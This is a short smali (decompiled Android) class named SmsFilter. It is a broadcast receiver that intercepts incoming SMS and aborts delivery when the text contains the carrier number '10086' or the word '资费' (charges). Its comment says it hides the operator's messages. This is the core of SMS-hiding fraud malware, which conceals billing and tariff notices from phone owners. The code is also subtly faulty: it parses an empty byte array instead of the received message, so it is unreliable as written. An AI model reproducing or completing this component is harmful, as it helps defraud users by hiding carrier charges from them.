.class public Lorg/example/rules/SmsFilter;
.super Landroid/content/BroadcastReceiver;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

# Hides the operator's messages: the text is tested in a helper.
.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .registers 6
    const/4 v0, 0
    new-array v0, v0, [B
    invoke-static {v0}, Landroid/telephony/SmsMessage;->createFromPdu([B)Landroid/telephony/SmsMessage;
    move-result-object v1
    invoke-virtual {v1}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v2
    invoke-direct {p0, v2}, Lorg/example/rules/SmsFilter;->matches(Ljava/lang/String;)Z
    move-result v3
    if-eqz v3, :keep
    invoke-virtual {p0}, Lorg/example/rules/SmsFilter;->abortBroadcast()V
    :keep
    return-void
.end method

.method private matches(Ljava/lang/String;)Z
    .registers 4
    const-string v0, "10086"
    invoke-virtual {p1, v0}, Ljava/lang/String;->contains(Ljava/lang/CharSequence;)Z
    move-result v1
    if-nez v1, :yes
    const-string v0, "资费"
    invoke-virtual {p1, v0}, Ljava/lang/String;->contains(Ljava/lang/CharSequence;)Z
    move-result v1
    :yes
    return v1
.end method
